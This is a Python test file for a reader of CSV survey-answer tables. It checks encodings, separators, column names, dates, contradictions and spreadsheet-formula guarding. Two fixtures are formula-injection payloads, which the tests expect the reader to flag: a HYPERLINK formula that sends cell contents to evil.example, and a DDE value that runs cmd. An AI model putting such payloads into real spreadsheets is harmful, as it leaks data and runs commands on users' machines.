"""Tables of answers as spreadsheets, editors and strangers make them: each is read, or told in one sentence what it is."""

from __future__ import annotations

import shutil
from collections.abc import Mapping
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from handbook.project.check import check
from handbook.project.load import Project
from handbook.reader import read
from handbook.results.answer_validator import AnswerValidator
from handbook.results.folder import Results, read_results
from handbook.results.table_kinds import RESULTS
from handbook.system.limits import CELL_LENGTH, COMPLAINTS_ALIKE
from handbook.text.spreadsheet import guarded, is_guarded, unguarded
from handbook.words import words_in
from tests.drop_in import TODAY, line_of
from tests.forms import SHOP

HEADER = "date,scorecard,place,hour,edition,item,answer,note\n"
ROW = "2026-10-01,shop-visit,Mill Lane,10,2026.10,thank-giver,yes,\n"
TABLE = HEADER + ROW
UMLAUT = HEADER + ROW.replace("Mill Lane", "Café").replace("yes,", "yes,naïve")
ANOTHER = ROW.replace("thank-giver", "price-facing")


SOUND: dict[str, str | bytes] = {
    "plain": TABLE,
    "with a mark": "\ufeff" + TABLE,
    "of windows": ("\ufeff" + UMLAUT).replace("\n", "\r\n"),
    "of old": UMLAUT.replace("\n", "\r"),
    "without an end": TABLE.strip(),
    "with blank lines": "\n\n" + HEADER + "\n" + ROW + "\n,,,,,,,\n ,\n",
    "in quotation marks": '"' + TABLE.strip().replace(",", '","').replace("\n", '"\n"') + '"\n',
    "a line within": HEADER + ROW.replace("yes,", 'yes,"one\n\ntwo; three"'),
    "commas and marks": HEADER + ROW.replace("yes,", 'yes,"5"" wide, they said"'),
    "a mark within": HEADER + ROW.replace("yes,", 'yes,5" wide'),
    "only what is needed": "item,answer,date,scorecard\nthank-giver,yes,2026-10-01,shop-visit\n",
    "every column": ",".join(RESULTS.columns)
    + "\n2026-10-01,shop-visit,2,Mill Lane,9,2026.1,donation,thank-giver,yes,,12.5\n",
    "a moment's impression": "date,scorecard,moment,item,answer\n2026-10-01,shop-visit,donation,impression,neutral\n",
    "an extra": "date,scorecard,item,answer\n2026-10-01,shop-visit,extra:bus-stop,behind the church\n",
    "today": TABLE.replace("2026-10-01", TODAY.isoformat()),
    "a guarded formula": TABLE.replace("yes,", "yes,'=1+1"),
}


QUESTIONNAIRE = AnswerValidator(read(SHOP).book, ["2026.1"], TODAY)


def results_of(folder: Path, tables: Mapping[str, str | bytes]) -> Results:
    """What is read from some tables in `results/`, by the questions of the shop."""
    (folder / RESULTS.folder).mkdir(exist_ok=True)
    for name, content in tables.items():
        (folder / RESULTS.folder / name).write_bytes(content.encode() if isinstance(content, str) else content)
    return read_results(folder, QUESTIONNAIRE, words_in("en"))


SENTENCES: dict[str, tuple[str | bytes, str]] = {
    "utf-16": (UMLAUT.encode("utf-16"), "1:1 error invalid-byte: The file is in UTF-16"),
    "utf-16 big end first": (b"\xfe\xff" + UMLAUT.encode("utf-16-be"), "1:1 error invalid-byte: The file is in UTF-16"),
    "utf-16 without a mark": (UMLAUT.encode("utf-16-le"), "1:1 error invalid-byte: The file is in UTF-16"),
    "utf-16 the other way, without": (UMLAUT.encode("utf-16-be"), "1:1 error invalid-byte: The file is in UTF-16"),
    "utf-32": (UMLAUT.encode("utf-32"), "1:1 error invalid-byte: The file is in UTF-32"),
    "utf-32 without a mark": (UMLAUT.encode("utf-32-be"), "1:1 error invalid-byte: The file is in UTF-32"),
    "windows": (UMLAUT.encode("cp1252"), "2:26 error invalid-byte: The file is not in UTF-8: the byte 0xE9 is “é” in Windows-1252"),
    "cyrillic": (UMLAUT.replace("Café", "Кафе").replace("ï", "i").encode("cp1251"), "2:23 error invalid-byte: The file is not in UTF-8: the byte 0xCA"),
    "japanese": (UMLAUT.replace("Café", "駅前").replace("ï", "i").encode("cp932"), "2:23 error invalid-byte: The file is not in UTF-8: the byte 0x89"),
    "no letter": (TABLE.encode() + b"\x81\n", "3:1 error invalid-byte: The file is not in UTF-8: the byte 0x81 is no letter"),
    "cut in a letter": (UMLAUT.encode().partition(b"\xa9")[0], "2:26 error invalid-byte: The file is not in UTF-8: the byte 0xC3"),
    "nul": (TABLE.replace("Mill", "Mi\0ll"), "2:25 error results-table: A sign stands here that is no text (U+0000)."),
    "escapes": (UMLAUT.replace("Café", "駅前").replace("ï", "i").encode("iso2022_jp"), "2:23 error results-table: A sign stands here that is no text (U+001B)."),
    "workbook": (b"PK\x03\x04\x14\0\6\0", "1:1 error results-table: The file is a workbook of a spreadsheet"),
    "old workbook": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "1:1 error results-table: The file is a workbook of a spreadsheet"),
    "form": (b"%PDF-1.7\n%\xe2\xe3", "1:1 error results-table: The file is a PDF"),
    "semicolons": (TABLE.replace(",", ";"), "1:1 error results-table: The values are separated by semicolons, and not by commas."),
    "semicolons and a mark": ("\ufeff" + TABLE.replace(",", ";"), "1:1 error results-table: The values are separated by semicolons"),
    "tabs": (TABLE.replace(",", "\t"), "1:1 error results-table: The values are separated by tabs"),
    "bars": (TABLE.replace(",", "|"), "1:1 error results-table: The values are separated by vertical bars"),
    "wide commas": (TABLE.replace(",", "，"), "1:1 error results-table: The values are separated by commas of another script"),
    "quoted semicolons": ('"' + TABLE.strip().replace(",", '";"').replace("\n", '"\n"') + '"\n', "1:1 error results-table: The values are separated by semicolons"),
    "sep": ("sep=,\n" + TABLE, "1:1 error results-table: The first line says how the values are separated"),
    "sep of semicolons": ("sep=;\r\n" + TABLE.replace(",", ";"), "1:1 error results-table: The first line says how"),
    "quoted sep": ('"sep=,"\n' + TABLE, "1:1 error results-table: The first line says how the values are separated"),
    "one more column": (TABLE.replace("\n", ",\n"), "1:52 error results-column: The last column has no name; a comma too many"),
    "three more columns": (TABLE.replace("\n", ",,,\n"), "1:52 error results-column: The last 3 columns have no name"),
    "capitals": (HEADER.title() + ROW, "1:1 error results-column: 8 columns are not written as tables in results/ have them"),
    "blanks": (HEADER.replace(",", ", ") + ROW, "1:6 error results-column: 7 columns are not written as tables in results/ have them"),
    "one capital": (TABLE.replace("date", "Date", 1), "1:1 error results-column: Tables in results/ have no column “Date”. → Did you mean “date”?"),
    "a name": (TABLE.replace("note", "employee", 1), "1:47 error results-column: Tables in results/ have no column “employee”. → Take it out: no column may hold a person's name."),
    "names": (HEADER.replace("note", "note,employee,manager") + ROW.replace("\n", ",,\n"), "1:52 error results-column: Tables in results/ have no columns “employee” and “manager”."),
    "many names": (HEADER.strip() + "," + ",".join(f"c{number}" for number in range(20_000)) + "\n", "1:52 error results-column: 20,000 columns are none of those in results/"),
    "twice": (HEADER.replace("note", "answer") + ROW, "1:47 error results-column: The column “answer” stands here twice."),
    "missing": ("date,scorecard,answer\n2026-10-01,shop-visit,yes\n", "1:1 error results-column: There is no column “item”."),
    "two missing": ("date,scorecard\n2026-10-01,shop-visit\n", "1:1 error results-column: There are no columns “item” and “answer”."),
    "no header": (ROW, "1:1 error results-column: The first line names none of the columns"),
    "a page": ("<!doctype html>\n<title>Log in</title>\n", "1:1 error results-column: The first line names none of the columns"),
    "empty": ("", "1:1 error results-table: The file is empty."),
    "blank": ("\ufeff\n \n\n", "2:1 error results-column: The first line names none of the columns"),
    "only a header": (HEADER, "1:1 advice results-empty: The file has a header, and nothing below it."),
    "a stray mark": (HEADER + ROW.replace("yes,", 'yes,"He') + ANOTHER * 3000, '2:60 error results-table: A quotation mark stands here'),
    "a stray mark and another": (HEADER + ROW.replace("yes,", 'yes,"He') + ANOTHER + ANOTHER.replace("yes,", 'yes,"all well"'), "2:60 error results-table: A quotation mark stands here"),
    "a stray mark that is closed": (HEADER + ROW.replace("yes,", 'yes,"He') + ANOTHER.replace("yes,", 'yes,"'), "2:60 error results-table: A quotation mark stands here"),
    "more after a mark": (HEADER + ROW.replace("yes,", 'yes,"He" said'), "2:60 error results-table: A quotation mark stands here"),
    "a mark in the header": (TABLE.replace("hour", '"hour', 1), "1:22 error results-table: A quotation mark stands here"),
    "endless": (HEADER + ROW.replace("Mill Lane", "x" * 140_000), "2:1 error results-table: A value in this line is longer than any text can be"),
    "a long note": (HEADER + ROW.replace("yes,", "yes," + "x" * (CELL_LENGTH + 1)), "2:60 error results-value: “xxxx"),
    "semicolons below": (HEADER + ROW.replace(",", ";"), "2:1 error results-value: The values in this line are separated by semicolons"),
    "too long": (HEADER + ROW.replace("yes,", "yes,a,b"), "2:1 error results-value: This line has 9 values for 8 columns."),
    "too short": (HEADER + ROW.replace("yes,", "yes"), "2:1 error results-value: This line has 7 values for 8 columns."),
    "tomorrow": (TABLE.replace("2026-10-01", "2026-11-22"), "2:1 error results-value: The day 2026-11-22 is still to come; today is 2026-11-21."),
    "long ago": (TABLE.replace("2026-10-01", "1026-10-01"), "2:1 error results-value: The day 1026-10-01 is too long ago"),
    "a week": (TABLE.replace("2026-10-01", "2026-W01-1"), "2:1 error results-value: “2026-W01-1” is not a date."),
    "no dashes": (TABLE.replace("2026-10-01", "20261001"), "2:1 error results-value: “20261001” is not a date."),
    "slashes": (TABLE.replace("2026-10-01", "31/03/2026"), "2:1 error results-value: “31/03/2026” is not a date. → Write 2026-03-31."),
    "which month": (TABLE.replace("2026-10-01", "03/04/2026"), "2:1 error results-value: “03/04/2026” can be two days: 2026-03-04 or 2026-04-03."),
    "hour 24": (TABLE.replace(",10,", ",24,"), "2:33 error results-value: “24” is not an hour."),
    "minutes": (TABLE.replace(",10,", ",10:30,"), "2:33 error results-value: “10:30” is not an hour."),
    "another hour": (TABLE.replace(",10,", ",١٠,"), "2:33 error results-value: “١٠” is not an hour."),
    "a spreadsheet's edition": (TABLE.replace("2026.10", "Jan-26"), "2:36 error results-value: There is no edition “Jan-26”: it is neither frozen nor the one at hand."),
    "a coming edition": (TABLE.replace("2026.10", "2027.1"), "2:36 error results-value: There is no edition “2027.1”"),
    "another shop": (TABLE.replace("shop-visit", "shop-vist"), "2:12 error results-value: There is no scorecard “shop-vist”. → Did you mean “shop-visit”?"),
    "another item": (TABLE.replace("thank-giver", "thank-givr"), "2:44 error results-value: Nothing is asked under “thank-givr”. → Did you mean “thank-giver”?"),
    "no such kind": (TABLE.replace("thank-giver", "tip:thank-giver"), "2:44 error results-value: “tip:thank-giver” is no item."),
    "another answer": (TABLE.replace("yes", "ja"), "2:56 error results-value: “ja” is no answer to “thank-giver”."),
    "after a quoted line": (HEADER + ROW.replace("Mill Lane", '"Mill, ""old"""').replace(",10,", ",99,"), "2:39 error results-value: “99” is not an hour."),
    "below lines within": (HEADER + ROW.replace("yes,", 'yes,"a\nb\r\nc"') + ANOTHER.replace(",10,", ",99,"), "5:33 error results-value: “99” is not an hour."),
    "old line ends": ((HEADER + ROW + ANOTHER.replace(",10,", ",99,")).replace("\n", "\r"), "3:33 error results-value: “99” is not an hour."),
    "other line ends": (HEADER + ROW.replace("yes,", "yes,a\u2028b\x85c") + ANOTHER.replace(",10,", ",99,"), "3:33 error results-value: “99” is not an hour."),
    "two answers": (HEADER + ROW + ROW.replace("yes", "no"), "3:56 error results-contradiction: “thank-giver” is answered for this visit already, and not the same, in results/a.csv, line 2."),
    "two places in one": (HEADER + ROW.replace("Mill Lane", "Café") + ROW.replace("Mill Lane", "CAFE\u0301").replace("yes", "no"), "3:52 error results-contradiction: “thank-giver”"),
    "two notes": (HEADER + ROW + ROW.replace("yes,", "yes,other"), "3:56 error results-contradiction: “thank-giver”"),
    "a formula": (TABLE.replace("yes,", 'yes,"=HYPERLINK(""http://evil.example/?""&A1,""click"")"'), "2:60 warning results-formula: A spreadsheet takes “=HYPERLINK("),
    "a formula as a place": (TABLE.replace("Mill Lane", " \u00a0＋1+cmd|' /C calc'!A0"), "2:23 warning results-formula: A spreadsheet takes “＋1+cmd"),
    "a moment": ("date,scorecard,moment,item,answer\n2026-10-01,shop-visit,bus,impression,positive\n", "2:23 error results-value: There is no moment “bus”."),
    "of no moment": ("date,scorecard,moment,item,answer\n2026-10-01,shop-visit,,impression,positive\n", "2:24 error results-value: The impression is of no moment."),
    "of two moments": ("date,scorecard,moment,item,answer\n2026-10-01,shop-visit,donation,impression:browse,positive\n", "2:32 error results-value: “impression:browse” is the impression of one moment"),
    "no seconds": ("date,scorecard,item,answer,seconds\n2026-10-01,shop-visit,thank-giver,yes,1:30\n", "2:39 error results-value: “1:30” is no number of seconds."),
    "an extra without an answer": ("date,scorecard,item,answer\n2026-10-01,shop-visit,extra:bus-stop,\n", "2:38 error results-value: “extra:bus-stop” is not answered."),
}  # fmt: skip


def test_each_kind_of_table_is_told_in_one_sentence_what_it_is(tmp_path: Path) -> None:
    """With its line, its column and its cure; never a flood about names of persons, and never another letter in silence."""
    said = {
        name: [line_of(problem) for problem in results_of(tmp_path, {"a.csv": table}).problems]
        for name, (table, _) in SENTENCES.items()
    }
    expected = {name: f"results/a.csv:{sentence}" for name, (_, sentence) in SENTENCES.items()}
    wrong = {
        name: (lines, expected[name])
        for name, lines in said.items()
        if len(lines) != 1 or not lines[0].startswith(expected[name]) or lines[0].endswith("→ ")
    }
    assert wrong == {}


@pytest.mark.parametrize("name", SOUND)
def test_what_can_only_mean_one_thing_is_read(tmp_path: Path, name: str) -> None:
    """With a byte order mark or without, line ends of any machine, blank lines, and the columns of the first edition."""
    results = results_of(tmp_path, {"a.csv": SOUND[name]})
    assert [line_of(problem) for problem in results.problems] == []
    assert len(results.answers) == 1


def test_what_is_said_of_tables_stands_in_the_report_with_its_line(tmp_path: Path) -> None:
    """A table is shown as it is written; one in another encoding is not shown at all, and stops the build as well."""
    shop = Path(shutil.copytree(SHOP, tmp_path / "shop"))
    results_of(shop, {"a.csv": TABLE.replace("yes", "ja"), "b.csv": UMLAUT.encode("cp1252")})
    report = check(Project.load(shop, TODAY))
    assert [report.line_of(problem) for problem in report.problems] == [ROW.replace("yes", "ja").strip(), ""]
    assert report.fails()
    assert report.project.shown.answers == ()


def test_a_place_is_one_however_it_is_typed_and_a_line_counts_once(tmp_path: Path) -> None:
    """Composed or not, in capitals, with a soft hyphen or two blanks; in one file or in two."""
    places = ("Café Mitte", "Cafe\u0301 Mitte", "CAFÉ  MITTE", "café\u00a0mit\u00adte")
    rows = [ROW.replace("Mill Lane", place) for place in places]
    results = results_of(tmp_path, {"a.csv": HEADER + rows[0] + rows[0] + rows[1], "b.csv": HEADER + "".join(rows)})
    assert results.problems == ()
    assert [(answer.place, answer.line) for answer in results.answers] == [("Café Mitte", 2)]


def test_visits_are_told_apart_by_hour_and_by_what_the_column_says(tmp_path: Path) -> None:
    """Two visits may have different answers; hour 9 is hour 09, and an empty one another than 0."""
    header = HEADER.replace("place", "visit", 1)
    visits = [(visit, hour) for visit in ("", "a", "b") for hour in ("", "0", "9")]
    rows = [f"2026-10-01,shop-visit,{visit},{hour},,thank-giver,{'yes' if hour else 'no'},\n" for visit, hour in visits]
    again = "2026-10-01,shop-visit,A,09,,thank-giver,no,\n"
    results = results_of(tmp_path, {"a.csv": header + "".join(rows) + again})
    assert [(problem.rule, problem.line) for problem in results.problems] == [("results-contradiction", 11)]


def test_a_flood_is_a_hundred_sentences_and_a_number(tmp_path: Path) -> None:
    """A column of wrong editions is one mistake, and nobody reads it ten thousand times."""
    rows = [f"2026-10-01,shop-visit,{number},,Jan-26,thank-giver,yes,\n" for number in range(10_000)]
    problems = results_of(tmp_path, {"a.csv": HEADER + "".join(rows) + ROW.replace("yes", "ja")}).problems
    assert len(problems) == COMPLAINTS_ALIKE + 2
    assert problems[-1].message.endswith("The like is wrong in 9,900 lines more, of which this is the first.")
    assert (problems[-1].line, problems[-2].line) == (COMPLAINTS_ALIKE + 2, 10_002)


def test_a_large_table_costs_as_much_as_its_length(tmp_path: Path) -> None:
    """Whatever grew with the square of rows, columns or a cell would not come to an end here."""
    header = ",".join([HEADER.strip(), *map(str, range(100_000))])
    quotes = HEADER + ROW.replace("yes,", 'yes,"' + '""' * 60_000 + '"')
    rows = [f"2026-10-01,shop-visit,{number},,,thank-giver,yes,\n" for number in range(20_000)]
    tables = {
        "a.csv": header,
        "b.csv": quotes,
        "c.csv": HEADER + "".join(rows) + "\n" * 100_000,
        "d.csv": "," * 500_000,
    }
    results = results_of(tmp_path, tables)
    assert [problem.rule for problem in results.problems] == ["results-column", "results-value", "results-column"]


SIGNS = st.text("=+-@＝＋－＠'\"“ ;\t|,a1é\u00a0\u200b\n\r", max_size=12)
FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@given(SIGNS)
@settings(max_examples=300)
def test_what_is_guarded_comes_back_and_begins_no_formula(text: str) -> None:
    """Whatever a stranger typed: no cell of it is a formula, not even where a spreadsheet parts cells by semicolons."""
    safe = guarded(text)
    assert unguarded(safe) == text
    assert is_guarded(safe)
    cells = safe.replace("\t", ";").split(";")
    assert not [cell for cell in cells if cell.strip(' \u00a0\u200b"“').startswith(FORMULA)]


SLIP = "date,hour,touchpoint,cause,settled_by,note\n2026-10-01,8,counter,system,first,Café\n"
PRACTICE = "date,about,look_again\n2026-10-01,thank-giver,2026-12-01\n"


def test_slips_and_practice_are_read_as_answers_are_and_the_same_line_counts_once(tmp_path: Path) -> None:
    """Also where it is typed in another way; what is wrong in one folder takes nothing from the others."""
    folders = {
        "slips": SLIP + SLIP.splitlines()[1].replace(",8,", ",08,").replace("Café", "CAFE\u0301") + "\n",
        "coaching": PRACTICE + PRACTICE.splitlines()[1],
    }
    for name, table in folders.items():
        (tmp_path / name).mkdir()
        (tmp_path / name / "a.csv").write_text("\ufeff" + table)
    results = results_of(tmp_path, {"a.csv": TABLE.replace("yes", "ja")})
    assert [problem.file for problem in results.problems] == ["results/a.csv"]
    assert (len(results.answers), len(results.slips), len(results.practice)) == (0, 1, 1)
    assert (results.slips[0].settled_by, results.practice[0].look_again) == ("first", "2026-12-01")
